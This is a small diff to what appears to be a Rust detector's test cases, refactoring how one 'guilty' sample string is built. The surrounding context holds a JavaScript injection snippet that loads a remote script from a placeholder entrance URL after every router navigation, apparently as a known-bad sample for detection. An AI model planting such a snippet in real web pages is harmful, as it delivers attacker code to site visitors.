@@ -372,7 +372,7 @@ fn sobot_cases() -> Vec<Case> {
         Case {
             id: "sobot.injected-twice",
             guilty: vec![
-                component("") + &component(""),
+                [component(""), component("")].concat(),
                 format!(
                     "router.afterEach(function () {{ var x = document.createElement('script'); x.src = '{ENTRANCE}'; document.body.appendChild(x) }})"
                 ),
